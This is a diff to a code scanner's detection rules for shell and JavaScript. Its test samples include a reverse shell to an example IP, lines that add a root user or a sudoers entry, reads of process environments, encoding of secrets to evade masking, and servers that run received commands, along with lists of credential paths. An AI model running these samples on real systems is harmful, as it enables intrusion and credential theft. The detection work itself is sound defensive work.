@@ -38,7 +38,7 @@ const anyRules = [
     {
         id: 'any/obfuscation/bidirectional-text',
         languages: types/* LANGUAGE_IDS */.u,
-        severity: 'medium',
+        severity: 'high',
         message: 'Has characters that change the direction of text, so that code reads otherwise than it runs',
         recommendation: any_hidden,
         metadata: { capability: 'obfuscation', cwe: 'CWE-1007' },
@@ -54,13 +54,24 @@ const anyRules = [
         recommendation: any_hidden,
         metadata: { capability: 'obfuscation', cwe: 'CWE-1007' },
         match: { obfuscation: 'invisible' },
-        bad: ["x = 'a\u200bb'", "print('ok')  # \u{e0065}\u{e0076}\u{e0061}\u{e006c}"],
+        bad: ["x = 'a\u200bb'"],
         ok: ["print('👨‍👩‍👧')", "print('\\u200b')"],
+    },
+    {
+        id: 'any/obfuscation/tag-characters',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Has letters that nobody sees but a machine reads (tag characters)',
+        recommendation: any_hidden,
+        metadata: { capability: 'obfuscation', cwe: 'CWE-1007' },
+        match: { obfuscation: 'tags' },
+        bad: ["print('ok')  # \u{e0065}\u{e0076}\u{e0061}\u{e006c}"],
+        ok: ["print('\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}')"],
     },
     {
         id: 'any/obfuscation/confusable-name',
         languages: types/* LANGUAGE_IDS */.u,
-        severity: 'medium',
+        severity: 'high',
         message: 'Has a name that mixes letters of different scripts which look alike',
         recommendation: 'Write the name in one script',
         metadata: { capability: 'obfuscation', cwe: 'CWE-1007' },
@@ -211,6 +222,36 @@ const bashCodeRules = [
         ok: ['base64 -d image.txt > image.png', 'gunzip -c log.gz | grep error', 'tr a-z A-Z < x'],
     },
     {
+        id: 'sh/dynamic-code/decoded-elsewhere',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Has another program decode a text and runs what comes out',
+        recommendation: 'Write the commands out',
+        metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
+        match: {
+            all: [
+                {
+                    call: ['python', 'perl', 'ruby', 'php', 'node', 'awk', 'lua'],
+                    where: {
+                        arg: 'any',
+                        regex: '(?i)b64decode|unhexlify|fromhex|decode|\\bpack\\b|chr ?\\(|%c|Buffer\\.from|fromCharCode|rot13|\\[::-1\\]|reverse|\\\\x[0-9a-f]{2}',
+                    },
+                },
+                { pipe: { from: ['python', 'perl', 'ruby', 'php', 'node', 'awk', 'lua'], to: [...SHELL_NAMES, 'eval'] } },
+            ],
+        },
+        bad: [
+            'python3 -c "import base64; print(base64.b64decode(\'aWQ=\').decode())" | sh',
+            'perl -e \'print pack "H*","6964"\' | bash',
+            'awk \'BEGIN { printf "%c%c", 105, 100 }\' | sh',
+        ],
+        ok: [
+            'python3 gen.py | bash',
+            "awk '{ print $1 }' f | sort",
+            'python3 -c \'import base64; print(base64.b64decode("aWQ="))\'',
+        ],
+    },
+    {
         id: 'sh/dynamic-code/generated',
         languages: ['bash'],
         severity: 'medium',
@@ -255,6 +296,7 @@ const bashCodeRules = [
         match: [
             { pipe: { from: ['input', 'argument', 'environment'], to: RUNS_INPUT } },
             { call: '$command', where: { arg: 0, is: 'external' } },
+            { call: SHELL_NAMES, where: { arg: 0, is: 'external' } },
         ],
         bad: ['read -r c; $c', 'eval "$1"', 'bash -c "$CMD"', 'cat | sh <<< "$1"', '"$@"'],
         ok: [
@@ -701,7 +743,7 @@ const bashFileRules = [
                 where: [
                     { arg: 'any', regex: [...WHOLE, SYSTEM] },
                     { flag: ['-exec', '-execdir'] },
-                    { arg: 'any', equals: ['rm', 'shred', 'unlink', 'mv', 'truncate'] },
+                    { arg: 'any', regex: '^(rm|shred|unlink|mv|truncate)$|\\b(rm|shred|unlink) ' },
                 ],
             },
             { call: ['shred', 'wipe', 'srm', 'scrub', 'bleachbit'] },
@@ -1166,6 +1208,21 @@ const bashNetworkRules = [
         ok: ['curl -d \'{"a":1}\' https://example.org/api', 'dig example.org', 'curl "https://example.org/v$(date +%s)"'],
     },
     {
+        id: 'sh/network/asks-for-name',
+        languages: ['bash'],
+        severity: 'low',
+        message: 'Asks the network for a name that is put together when it runs',
+        recommendation: 'Leave the question out; a sandbox has no network',
+        metadata: { capability: 'network' },
+        tags: ['send'],
+        match: {
+            call: ['ping', 'ping6', 'traceroute', 'dig', 'nslookup', 'host', 'drill', 'getent', 'whois'],
+            where: { arg: 'any', is: ['external', 'list', 'unknown'] },
+        },
+        bad: ['ping -c1 "$host"', 'host "$(cat name).example.org"'],
+        ok: ['ping -c1 example.org', 'echo "ping $host"'],
+    },
+    {
         id: 'sh/network/dev-tcp',
         languages: ['bash'],
         severity: 'medium',
@@ -1203,11 +1260,13 @@ const bashNetworkRules = [
 const SECRET_PATHS = [
     '(^|/)etc/(passwd|shadow|gshadow|sudoers|master\\.passwd|krb5\\.keytab|ssl/private|ssh/ssh_host)',
     '(^|/|~)\\.(ssh|aws|azure|kube|gnupg|config/gh|config/gcloud|docker/config|password-store|vault-token|gem/credentials|cargo/credentials|config/op|terraform\\.d|oci)(/|$)',
-    '(^|/)\\.(netrc|git-credentials|npmrc|pypirc|pgpass|my\\.cnf|s3cfg|boto|htpasswd|env|bash_history|zsh_history|python_history|mysql_history|psql_history|histfile|vault_pass|docker/config\\.json)$',
+    '(^|/)\\.(netrc|git-credentials|npmrc|pypirc|pgpass|my\\.cnf|s3cfg|boto|htpasswd|env|bash_history|zsh_history|python_history|mysql_history|psql_history|histfile|vault_pass|docker/config\\.json|git/config)$',
     '(^|/)(id_(rsa|dsa|ecdsa|ed25519)|authorized_keys|credentials\\.json|wallet\\.dat|Login Data|logins\\.json|key4\\.db|cookies\\.sqlite|known_hosts)$',
     '(^|/)proc/([^/]{1,20}|\\*)/(environ|mem|maps|root|cwd/\\.env|fd)(/|$)',
     '(^|/)(var/)?run/secrets(/|$)',
     '(^|/)proc/(kcore|kallsyms|keys)$',
+    '(^|/)\\.(config/(google-chrome|chromium|BraveSoftware)|mozilla|bitcoin|electrum|ethereum)(/|$)',
+    'Library/Keychains',
 ];
 const READERS = [
     'cat',
@@ -1352,6 +1411,36 @@ const bashPathRules = [
         ],
     },
     {
+        id: 'sh/filesystem/packs-home',
+        languages: ['bash'],
+        severity: 'medium',
+        message: 'Packs or copies a whole home or system folder',
+        recommendation: 'Name the one folder that is needed',
+        metadata: { capability: 'filesystem', cwe: 'CWE-552' },
+        tags: ['sensitive-path'],
+        match: {
+            call: ['tar', 'zip', '7z', 'rsync', 'scp', 'cpio', 'dump'],
+            where: { arg: 'any', regex: '^(/|~|/home|/root|/etc|/Users)(/[^/]{1,40})?/?\\*?$' },
+        },
+        bad: ['tar czf a.tgz ~', 'zip -r a.zip /home', 'scp -r /root/ a@example.org:'],
+        ok: ['tar czf a.tgz src', 'zip -r a.zip ./docs', 'tar xzf a.tgz -C /tmp/out', 'echo "tar ~"'],
+    },
+    {
+        id: 'sh/environment-secrets/process-environment',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Reads the environment or the memory of processes through /proc',
+        recommendation: 'Read single variables by name',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-214' },
+        tags: ['secrets', 'sensitive-path'],
+        match: [
+            { call: READERS, where: { arg: 'any', regex: '^/proc/[^/]{1,20}/(environ|mem|root)(/|$)' } },
+            { redirect: { operator: ['<', '<>'], target: { regex: '^/proc/[^/]{1,20}/(environ|mem|root)(/|$)' } } },
+        ],
+        bad: ['cat /proc/1/environ', "tr '\\0' '\\n' < /proc/self/environ", 'for p in /proc/*/environ; do cat "$p"; done'],
+        ok: ['cat /proc/self/status', 'cat /proc/meminfo', 'echo /proc/1/environ'],
+    },
+    {
         id: 'sh/filesystem/key-files',
         languages: ['bash'],
         severity: 'high',
@@ -1443,6 +1532,50 @@ const bashProcessRules = [
         ],
         bad: ['git clone https://example.org/r && cd r && ./install.sh', 'pip install git+https://example.org/x.git'],
         ok: ['git clone https://example.org/r', 'pip install requests', 'make install'],
+    },
+    {
+        id: 'sh/process/installs-from-address',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Installs a package from an address instead of the public registry',
+        recommendation: 'Install named versions from the registry, or have the code in the repository',
+        metadata: { capability: 'process', cwe: 'CWE-494' },
+        tags: ['download', 'execute'],
+        match: [
+            {
+                call: ['pip', 'pip3', 'pipx', 'uv', 'npm', 'npx', 'yarn', 'pnpm', 'gem', 'python', 'easy_install'],
+                where: [
+                    { arg: 'any', equals: ['install', 'i', 'add', 'pip', 'run', 'exec', 'x'] },
+                    { arg: 'any', regex: '^(https?|ftp)://' },
+                    { arg: 'any', regex: '^https://(pypi\\.org|registry\\.npmjs\\.org|rubygems\\.org|github\\.com)/', not: true },
+                ],
+            },
+            {
+                call: ['pip', 'pip3', 'uv', 'npm', 'yarn', 'pnpm', 'gem', 'python'],
+                where: {
+                    arg: 'any',
+                    regex: '^--(index-url|extra-index-url|registry|source|find-links|trusted-host)=(?!https://(pypi|registry|rubygems)\\.)',
+                },
+            },
+            {
+                call: ['dpkg', 'rpm', 'apt', 'apt-get', 'yum', 'dnf', 'apk'],
+                where: { arg: 'any', regex: '^(https?|ftp)://' },
+            },
+        ],
+        bad: [
+            'pip install http://example.org/x.tar.gz',
+            'python3 -m pip install http://example.org/x.whl',
+            'npm install -g http://example.org/x.tgz',
+            'pip install --index-url http://example.org/simple pkg',
+            'npm install --registry=http://example.org x',
+            'rpm -i http://example.org/x.rpm',
+        ],
+        ok: [
+            'pip install requests',
+            'npm ci',
+            'pip install --index-url https://pypi.org/simple requests',
+            'python3 -m pip list',
+        ],
     },
     {
         id: 'sh/process/kill',
@@ -1673,7 +1806,7 @@ const bashRemoteRules = [
             { call: 'nc', where: { flag: ['e', 'c', 'exec', 'sh-exec', 'lua-exec'] } },
             { call: ['xterm', 'rxvt', 'gnome-terminal'], where: { flag: ['-display', 'display'] } },
             { call: 'socat', where: { arg: 'any', regex: '(?i)(^|,)(exec|system):' } },
-            { call: ['perl.socket', 'ruby.socket', 'php.socket', 'lua.socket', 'awk.socket', 'tclsh.socket'] },
+            { call: ['ztcp', 'perl.socket', 'ruby.socket', 'php.socket', 'lua.socket', 'awk.socket', 'tclsh.socket'] },
         ],
         bad: [
             'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
@@ -1826,6 +1959,25 @@ const bashRightsRules = [
 ];
 
 ;// CONCATENATED MODULE: ./build/rules/bash-secrets.js
+const SECRET_NAMES = [
+    'env.*TOKEN*',
+    'env.*SECRET*',
+    'env.*PASSWORD*',
+    'env.*PASSWD*',
+    'env.*API_KEY*',
+    'env.*APIKEY*',
+    'env.*ACCESS_KEY*',
+    'env.*PRIVATE_KEY*',
+    'env.*CREDENTIAL*',
+    'env.AWS_*',
+    'env.*_PAT',
+    'env.SSH_AUTH_SOCK',
+    'env.*_token',
+    'env.*_secret',
+    'env.*password*',
+];
+/** What makes text unreadable for people and for the masking of a log. */
+const ENCODERS = ['base64', 'base32', 'basenc', 'xxd', 'od', 'hexdump', 'rev', 'gzip', 'bzip2', 'xz', 'uuencode'];
 const bashSecretRules = [
     {
         id: 'sh/environment-secrets/dump',
@@ -1862,23 +2014,7 @@ const bashSecretRules = [
         tags: ['secrets'],
         match: [
             {
-                attribute: [
-                    'env.*TOKEN*',
-                    'env.*SECRET*',
-                    'env.*PASSWORD*',
-                    'env.*PASSWD*',
-                    'env.*API_KEY*',
-                    'env.*APIKEY*',
-                    'env.*ACCESS_KEY*',
-                    'env.*PRIVATE_KEY*',
-                    'env.*CREDENTIAL*',
-                    'env.AWS_*',
-                    'env.*_PAT',
-                    'env.SSH_AUTH_SOCK',
-                    'env.*_token',
-                    'env.*_secret',
-                    'env.*password*',
-                ],
+                attribute: SECRET_NAMES,
             },
             { call: 'printenv', where: { arg: 'any', regex: '(?i)token|secret|password|_key' } },
         ],
@@ -1901,7 +2037,7 @@ const bashSecretRules = [
                     { arg: 1, equals: ['token', 'status'] },
                 ],
             },
-            { call: 'git', where: { arg: 'any', regex: '^(credential|http\\..*extraheader|credential\\.helper)$' } },
+            { call: 'git', where: { arg: 'any', regex: '^(credential|(http\\..*)?extraheader|credential\\.helper)$' } },
             {
                 call: 'aws',
                 where: {
@@ -1922,6 +2058,33 @@ const bashSecretRules = [
             'pass show mail',
         ],
         ok: ['gh pr list', 'git config user.name', 'kubectl get pods', 'echo vault'],
+    },
+    {
+        id: 'sh/environment-secrets/encoded',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Writes secrets in another form, so that masking does not see them',
+        recommendation: 'Leave secrets out of what is printed',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-200' },
+        match: [
+            { pipe: { from: ['env', 'printenv', 'set', 'export', 'declare'], to: ENCODERS } },
+            { all: [{ attribute: SECRET_NAMES }, { pipe: { to: ENCODERS } }] },
+            { all: [{ attribute: SECRET_NAMES }, { call: ENCODERS }] },
+            {
+                all: [
+                    { attribute: SECRET_NAMES },
+                    {
+                        pipe: {
+                            from: ['echo', 'printf', 'cat', 'printenv'],
+                            to: ['sed', 'fold', 'tr', 'awk', 'cut', 'tac', 'perl'],
+                        },
+                    },
+                ],
+            },
+            { all: [{ call: 'git', where: { arg: 'any', contains: 'extraheader' } }, { pipe: { to: ENCODERS } }] },
+        ],
+        bad: ['env | base64', 'echo "$GITHUB_TOKEN" | rev', 'xxd -p <<< "$NPM_TOKEN"', 'printenv | gzip | xxd'],
+        ok: ['env | sort', 'TOKEN=abc; echo "$TOKEN" | base64', 'echo "$HOME" | base64', 'base64 a.bin'],
     },
     {
         id: 'sh/environment-secrets/search',
@@ -1970,6 +2133,9 @@ const bashSecretRules = [
                     'JAVA_TOOL_OPTIONS',
                     'PERL5DB',
                     'PYTHONINSPECT',
+                    'BASH_ENV',
+                    'ENV',
+                    'GIT_SSH_COMMAND',
                 ],
                 value: { regex: '-r|--require|--import|-M|-javaagent|/tmp|\\./|system|exec' },
             },
@@ -2022,6 +2188,8 @@ const bashSecretRules = [
 const LOGS = '(^|/)var/log(/|$)|(^|/)\\.(bash|zsh|sh|python|mysql)_history$|(^|/)var/run/utmp|wtmp|btmp|lastlog';
 const STARTUP = '(^|~|/)\\.(bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zprofile|zshenv|xinitrc|xsession|config/autostart|config/fish|gitconfig|vimrc|inputrc|pam_environment)';
 const PERSISTENT = '(^|/)etc/(cron|crontab|systemd|init\\.d|rc\\.local|rc\\d|profile|bash\\.bashrc|environment|ld\\.so|update-motd|apt/apt\\.conf|anacrontab|xinetd|udev|hosts$|resolv|NetworkManager|logrotate|inittab)|(^|/)var/spool/(cron|at)|(^|/)(usr/)?lib/systemd|\\.config/systemd|LaunchAgents|LaunchDaemons';
+/** Who may log in, and what then runs. */
+const ACCOUNTS = '(^|/|~)\\.ssh/(config|rc|environment|authorized_keys)|^/etc/(passwd|shadow|gshadow|group|sudoers|pam\\.d|ssh/sshd_config|security)(/|$|\\.d/)';
 const WRITES = ['>', '>>', '>|', '&>', '&>>', '<>'];
 const WRITERS = ['tee', 'cp', 'mv', 'ln', 'install'];
 const bashWriteRules = [
@@ -2088,6 +2256,53 @@ const bashWriteRules = [
         ok: ['crontab -l', 'systemctl list-units', 'cat /etc/crontab', 'echo "/etc/cron.d"', 'cp crontab.txt backup/'],
     },
     {
+        id: 'sh/filesystem/account-files',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Changes or empties the files that say who may log in',
+        recommendation: 'Leave accounts as they are',
+        metadata: { capability: 'filesystem', cwe: 'CWE-732' },
+        match: [
+            { redirect: { operator: WRITES, target: { regex: ACCOUNTS } } },
+            { call: WRITERS, where: [{ minArgs: 1, arg: -1, regex: ACCOUNTS }] },
+            { call: ['truncate', 'rm', 'shred', 'unlink', 'chattr', 'ed', 'visudo'], where: { arg: 'any', regex: ACCOUNTS } },
+            { call: 'dd', where: { arg: 'any', regex: `^of=${ACCOUNTS.slice(ACCOUNTS.indexOf('/etc'))}` } },
+            { call: ['sed', 'perl'], where: [{ flag: ['i', 'in-place', 'pi'] }, { arg: 'any', regex: ACCOUNTS }] },
+        ],
+        bad: [
+            "echo 'r::0:0::/:/bin/sh' >> /etc/passwd",
+            ': > /etc/shadow',
+            "echo 'ProxyCommand x' >> ~/.ssh/config",
+            'truncate -s 0 /etc/passwd',
+            "echo 'x ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers.d/x",
+            "sed -i 's/x/y/' /etc/group",
+        ],
+        ok: ['cut -d: -f1 /etc/passwd', 'cp /etc/passwd passwd.bak', 'echo x > etc/passwd', 'getent passwd'],
+    },
+    {
+        id: 'sh/filesystem/later-steps',
+        languages: ['bash'],
+        severity: 'high',
+        message: 'Changes the environment or the path of later steps of the workflow',
+        recommendation: 'Set what is needed in the workflow itself',
+        metadata: { capability: 'filesystem', cwe: 'CWE-454' },
+        match: [
+            { redirect: { operator: WRITES, target: { regex: '\\$\\{?GITHUB_(ENV|PATH)' } } },
+            {
+                all: [
+                    { attribute: ['env.GITHUB_ENV', 'env.GITHUB_PATH'] },
+                    { call: WRITERS, where: { minArgs: 1, arg: -1, is: 'external' } },
+                ],
+            },
+        ],
+        bad: [
+            'echo "LD_PRELOAD=/tmp/x.so" >> "$GITHUB_ENV"',
+            'echo /tmp/bin >> $GITHUB_PATH',
+            'echo A=1 | tee -a "$GITHUB_ENV"',
+        ],
+        ok: ['echo "a=1" >> "$GITHUB_OUTPUT"', 'echo "$GITHUB_ENV"', 'cat "$GITHUB_PATH"'],
+    },
+    {
         id: 'sh/filesystem/startup-file',
         languages: ['bash'],
         severity: 'medium',
@@ -2098,10 +2313,10 @@ const bashWriteRules = [
             {
                 redirect: {
                     operator: WRITES,
-                    target: { regex: [STARTUP, '\\$\\{?GITHUB_(ENV|PATH)', '\\.git/hooks/', '\\.git/config$'] },
+                    target: { regex: [STARTUP, '\\.git/hooks/', '\\.git/config$'] },
                 },
             },
-            { call: WRITERS, where: { minArgs: 1, arg: -1, regex: [STARTUP, 'GITHUB_(ENV|PATH)', '\\.git/hooks/'] } },
+            { call: WRITERS, where: { minArgs: 1, arg: -1, regex: [STARTUP, '\\.git/hooks/'] } },
             { call: ['at', 'batch'] },
             {
                 call: 'git',
@@ -2114,7 +2329,6 @@ const bashWriteRules = [
         ],
         bad: [
             "echo 'export PATH=/x:$PATH' >> ~/.bashrc",
-            'echo "A=1" >> "$GITHUB_ENV"',
             'cp hook .git/hooks/pre-commit',
             'echo /tmp/x | at now',
             "PROMPT_COMMAND='date'",
@@ -2223,6 +2437,32 @@ const combinationRules = [
             {
                 language: 'javascript',
                 code: "const r = await fetch('https://example.org/data.json');\nconsole.log(await r.json());",
+            },
+        ],
+    },
+    {
+        id: 'any/process/serves-commands',
+        languages: types/* LANGUAGE_IDS */.u,
+        severity: 'high',
+        message: 'Waits for connections and runs commands that are not known before',
+        recommendation: 'Never run what somebody sends; answer with data',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: { combine: ['serves', 'runs-given'] },
+        bad: [
+            {
+                language: 'javascript',
+                code: "require('http').createServer((q, r) => require('child_process').exec(q.url.slice(1), (e, o) => r.end(o))).listen(80)",
+            },
+            {
+                language: 'python',
+                code: "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            subprocess.run(line, shell=True)\nsocketserver.TCPServer(('', 4444), H).serve_forever()",
+            },
+        ],
+        ok: [
+            { language: 'javascript', code: "require('http').createServer((q, r) => r.end('ok')).listen(80)" },
+            {
+                language: 'python',
+                code: 'import http.server as h\nh.HTTPServer(("127.0.0.1", 80), h.SimpleHTTPRequestHandler)',
             },
         ],
     },
@@ -2390,6 +2630,83 @@ const codeRules = [
             "const name = ['ev', 'ent'].join(''); console.log(name)",
             "console.log([101, 118, 97, 108].map((c) => String.fromCharCode(c)).join(''))",
         ],
+    },
+    {
+        id: 'js/dynamic-code/text-with-power',
+        languages,
+        severity: 'high',
+        inside: true,
+        message: 'Runs text as code that reaches the process, modules or the network',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: [
+            { call: ['process.*', 'require', 'import', 'fetch', 'fs.*', 'child_process.*', 'globalThis.?'] },
+            { attribute: ['process', 'process.*', 'require', 'globalThis.?'] },
+            { import: '*' },
+        ],
+        bad: [
+            "eval('process.exit()')",
+            "new Function('return process.env')()",
+            'setTimeout(\'require("fs")\', 1)',
+            "require('vm').runInThisContext('process.exit()')",
+            "eval.call(null, 'process.exit()')",
+            "await import('data:text/javascript,process.exit()')",
+        ],
+        ok: [
+            "eval('1 + 1')",
+            "new Function('a', 'b', 'return a + b')(1, 2)",
+            "new Function('return this')()",
+            'process.exit()',
+        ],
+    },
+    {
+        id: 'js/dynamic-code/encoded-module',
+        languages,
+        severity: 'high',
+        message: 'Imports code that is encoded in an address',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-506' },
+        match: { import: ['data:*base64*', 'data:*%*'] },
+        bad: ["await import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk=')"],
+        ok: [
+            "await import('data:text/javascript,console.log(1)')",
+            "const i = 'data:image/png;base64,AAAA'; console.log(i)",
+        ],
+    },
+    {
+        id: 'js/dynamic-code/worker-of-text',
+        languages,
+        severity: 'high',
+        message: 'Runs text as a worker of its own',
+        recommendation: plain,
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: { all: [{ call: ['URL.createObjectURL'] }, { call: ['Worker', 'worker_threads.Worker', 'SharedWorker'] }] },
+        bad: ["new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"],
+        ok: ["new Worker('./worker.js')", "URL.createObjectURL(new Blob(['a']))"],
+    },
+    {
+        id: 'js/dynamic-code/poisoned-options',
+        languages,
+        severity: 'high',
+        message: 'Plants options for processes that start later in the prototype of every object',
+        recommendation: 'Pass options to the call that needs them',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-1321' },
+        match: {
+            assign: [
+                'shell',
+                'NODE_OPTIONS',
+                'env',
+                'argv0',
+                'execPath',
+                'execArgv',
+                'input',
+                'main',
+                'exports',
+                'cwd',
+            ].flatMap((name) => [`Object.prototype.${name}`, `*.__proto__.${name}`]),
+        },
+        bad: ["Object.prototype.shell = '/bin/sh'", "({}).__proto__['NODE_OPTIONS'] = '--require /tmp/x.js'"],
+        ok: ['Object.prototype.isAdmin = true', "const options = {}; options.shell = '/bin/sh'"],
     },
     {
         id: 'js/dynamic-code/timer-text',
@@ -2610,9 +2927,12 @@ const REQUESTS = [
     'ky',
     'ky.*',
 ];
-const SECRET_FILES = '(?:^|/)\\.(?:ssh|aws|gnupg|kube|docker|azure|netrc|git-credentials|npmrc|pypirc|pgpass|bash_history)(?:/|$)|(?:^|/)id_(?:rsa|ed25519|ecdsa|dsa)$|^/etc/(?:shadow|gshadow|sudoers|ssl/private)|^/etc/passwd$|^/proc/(?:[0-9]{1,7}|self|\\*)/(?:environ|maps|cmdline)|^/var/run/secrets|^/run/secrets|(?:^|/)(?:credentials|secrets?)\\.(?:json|ya?ml|env)$|(?:^|/)\\.env(?:\\.\\w{1,20})?$|^/root(?:/|$)|wallet\\.dat$|Login Data$';
+const SECRET_FILES = [
+    '(?:^|/)\\.(?:ssh|aws|gnupg|kube|docker|azure|netrc|git-credentials|npmrc|pypirc|pgpass|bash_history)(?:/|$)|(?:^|/)id_(?:rsa|ed25519|ecdsa|dsa)$|^/etc/(?:shadow|gshadow|sudoers|ssl/private)|^/etc/passwd$|^/proc/(?:[0-9]{1,7}|self|\\*)/(?:environ|maps|cmdline)|^/var/run/secrets|^/run/secrets|(?:^|/)(?:credentials|secrets?)\\.(?:json|ya?ml|env)$|(?:^|/)\\.env(?:\\.\\w{1,20})?$|^/root(?:/|$)|wallet\\.dat$|Login Data$',
+    '(?:^|/)\\.(?:config/(?:google-chrome|chromium|gcloud|gh)|mozilla|bitcoin|electrum|ethereum|password-store)(?:/|$)|Library/Keychains|(?:^|/)\\.git/config$|cookies\\.sqlite$',
+];
 const FILE_READERS = ['fs.*', 'child_process.*', 'require', 'path.join', 'path.resolve', '?.readFile*'];
-const SECRET_NAMES = [
+const javascript_data_SECRET_NAMES = [
     '*TOKEN*',
     '*SECRET*',
     '*PASSWORD*',
@@ -2638,6 +2958,35 @@ const REMOVERS = [
     'fs-extra.remove*',
     'fs-extra.emptyDir*',
     'del*',
+];
+/** The root, homes and system folders. */
+const javascript_data_WHOLE = '^(?:/|~|/(?:home|root|etc|usr|var|bin|boot|lib|opt|srv)/?)$';
+/** Neither a folder below the current one nor a temporary one that the program made. */
+const NOT_OWN = [
+    { arg: 0, regex: '^(?!/|~|\\.\\.|[A-Za-z]:|\\*|\\.?/?$)', not: true },
+    { arg: 0, path: ['fs.mkdtempSync()', 'fs.promises.mkdtemp()', 'fs.mkdtemp()', 'tmp.*()'], not: true },
+];
+/** What other programs run or trust. */
+const javascript_data_STARTUP = 'authorized_keys$|(?:^|/)\\.(?:bashrc|profile|bash_profile|zshrc|gitconfig|npmrc)$|\\.git/hooks/|^/etc/(?:cron|passwd|shadow|sudoers|systemd|profile|ld\\.so|hosts|init\\.d|rc\\.local)|^/var/spool/cron|\\.config/(?:autostart|systemd)|^/usr/(?:local/)?s?bin/|^/s?bin/';
+const COPIERS = ['fs.copyFile*', 'fs.cp*', 'fs.rename*', 'fs.symlink*', 'fs.link*', 'fs.promises.*'];
+const javascript_data_WRITERS = [
+    'fs.write*',
+    'fs.append*',
+    'fs.createWriteStream',
+    'fs.truncate*',
+    'fs.unlink*',
+    'fs.promises.truncate',
+    'fs.promises.unlink',
+    'fs.copyFile*',
+    'fs.cp*',
+    'fs.rename*',
+    'fs.symlink*',
+    'fs.link*',
+    'fs.promises.write*',
+    'fs.promises.append*',
+    'fs.promises.copyFile',
+    'fs.promises.rename',
+    'fs.promises.symlink',
 ];
 const dataRules = [
     {
@@ -2682,6 +3031,7 @@ const dataRules = [
         message: 'Waits for connections',
         recommendation: 'A program in the sandbox cannot be reached; call the handler directly',
         metadata: { capability: 'network', cwe: 'CWE-1327' },
+        tags: ['serves'],
         match: {
             call: [
                 'http.createServer',
@@ -2784,7 +3134,7 @@ const dataRules = [
         recommendation: 'Pass values in as parameters; the sandbox has no secrets',
         metadata: { capability: 'environment-secrets', cwe: 'CWE-526' },
         tags: ['secrets'],
-        match: [{ attribute: ['process.env', ...SECRET_NAMES] }],
+        match: [{ attribute: ['process.env', ...javascript_data_SECRET_NAMES] }],
         bad: [
             'console.log(process.env)',
             'for (const name in process.env) console.log(name)',
@@ -2813,11 +3163,15 @@ const dataRules = [
                 call: ['Buffer.from', 'btoa', 'encodeURIComponent', 'zlib.*'],
                 where: { arg: 0, is: 'external', source: 'environment' },
             },
-            { call: ['Buffer.from', 'btoa', 'zlib.*'], where: { arg: 0, path: SECRET_NAMES } },
+            { call: ['Buffer.from', 'btoa', 'zlib.*'], where: { arg: 0, path: javascript_data_SECRET_NAMES } },
+            { call: javascript_data_SECRET_NAMES.map((name) => `${name}.split`), where: { arg: 0, equals: '' } },
+            { call: javascript_data_SECRET_NAMES.map((name) => `${name}.replace*`) },
         ],
         bad: [
             "console.log(Buffer.from(JSON.stringify(process.env)).toString('base64'))",
             'console.log(btoa(process.env.GITHUB_TOKEN))',
+            "console.log(process.env.GITHUB_TOKEN.split('').reverse().join(''))",
+            "console.log([...process.env.NPM_TOKEN].join(' '))",
         ],
         ok: [
             'console.log(JSON.stringify(process.env))',
@@ -2902,23 +3256,46 @@ const dataRules = [
         recommendation: 'Delete only named files that the program made',
         metadata: { capability: 'filesystem', cwe: 'CWE-73' },
         match: [
-            { call: REMOVERS, where: { arg: ['recursive'], is: 'true' } },
-            { call: ['rimraf*', 'fs-extra.remove*', 'fs-extra.emptyDir*', 'del', 'del.*'] },
+            { call: REMOVERS, where: [{ arg: ['recursive'], is: 'true' }, ...NOT_OWN] },
+            { call: ['rimraf*', 'fs-extra.remove*', 'fs-extra.emptyDir*', 'del', 'del.*'], where: NOT_OWN },
+            {
+                all: [
+                    { call: ['fs.readdir*', 'fs.promises.readdir', 'fs.opendir*'] },
+                    {
+                        call: ['fs.unlink*', 'fs.promises.unlink', ...REMOVERS],
+                        where: { arg: 0, path: ['path.join()', 'path.resolve()'] },
+                    },
+                ],
+            },
             {
                 call: ['fs.unlink', 'fs.unlinkSync', 'fs.promises.unlink', ...REMOVERS],
                 where: { arg: 0, is: ['external', 'unknown'] },
             },
         ],
         bad: [
-            "require('fs').rmSync('build', { recursive: true })",
+            "require('fs').rmSync('/srv/data', { recursive: true })",
+            "const fs = require('fs'), p = require('path'); const wipe = (d) => { for (const f of fs.readdirSync(d)) fs.unlinkSync(p.join(d, f)); };",
             "const { unlinkSync } = require('fs'); unlinkSync(process.argv[2])",
-            "require('rimraf').sync('dist')",
+            "require('rimraf').sync(parameters.folder)",
         ],
         ok: [
+            "require('fs').rmSync('build', { recursive: true, force: true })",
+            "const d = require('fs').mkdtempSync('x-'); require('fs').rmSync(d, { recursive: true })",
             "require('fs').unlinkSync('tmp.txt')",
             'new Map().delete(1)',
             'const list = { remove() {} }; list.remove(parameters.x)',
         ],
+    },
+    {
+        id: 'js/filesystem/delete-own',
+        languages: javascript_data_languages,
+        severity: 'low',
+        message: 'Deletes files or folders of the program',
+        recommendation: 'Leave files alone: the sandbox is thrown away anyhow',
+        metadata: { capability: 'filesystem', cwe: 'CWE-73' },
+        match: { call: ['fs.unlink', 'fs.unlinkSync', 'fs.promises.unlink', ...REMOVERS] },
+        bad: ["require('fs').unlinkSync('tmp.txt')", "require('fs').rmSync('build', { recursive: true })"],
+        ok: ['new Map().delete(1)', "console.log('fs.unlinkSync')"],
     },
     {
         id: 'js/filesystem/delete-system',
